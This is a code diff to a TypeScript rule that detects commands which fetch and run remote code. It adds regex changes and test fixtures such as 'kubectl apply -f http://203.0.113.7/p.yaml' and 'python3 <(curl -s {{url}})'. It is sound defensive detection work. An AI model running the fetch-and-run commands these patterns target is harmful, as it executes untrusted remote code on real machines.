@@ -1,3 +1,4 @@
+import { saysWhat } from '../../checks/documentation.js';
 import type { Candidate, Rule } from '../../rule.js';
 
 /** What is there is installed or applied, or is to be from now on. */
@@ -73,7 +74,8 @@ export const rule: Rule = {
       re: /(?<![\w.-])(?:(?:ba|z|k|da|a)?sh|python[\d.]*|perl|ruby|node|php|source|\.)\s+(?:-\w*\s+|\/dev\/stdin\s+)*(?:<<<\s*)?\\?["']?(?:\$\(|`|<\()\s*(?:sudo\s+|command\s+)?(?:\/usr\/bin\/)?(?:curl|wget|fetch|lynx|nc|ncat)\s/,
       window: 120,
       // The end of a sentence is no command, and neither is the list that follows: "... `type`.\n  - `curl x` shows".
-      accept: ({ before, text }) => !text.startsWith('.') || !/[\w`)"'*\x80-\xff]$/.test(before),
+      accept: ({ before, text, after }) =>
+        (!text.startsWith('.') || !/[\w`)"'*\x80-\xff]$/.test(before)) && saysWhat(after.split(/[)`\n]/, 1)[0] ?? ''),
     },
     { re: /(?<![\w.-])eval\s+\\?["']?(?:\$\(|`)\s*(?:\/usr\/bin\/)?(?:curl|wget|fetch|lynx|nc|dig|nslookup|host)\s/ },
     // dig +short txt h | sh: commands that hide in DNS
@@ -116,6 +118,7 @@ export const rule: Rule = {
       'kubectl apply -f http://203.0.113.7/p.yaml',
     ],
     silent: [
+      'python3 <(curl -s {{url}})',
       'curl -LO https://files.invalid/tool && chmod +x tool && mv tool /usr/local/bin/',
       'wget https://files.invalid/a.tar.gz; tar xzf a.tar.gz',
       'curl https://files.invalid/x; echo done',
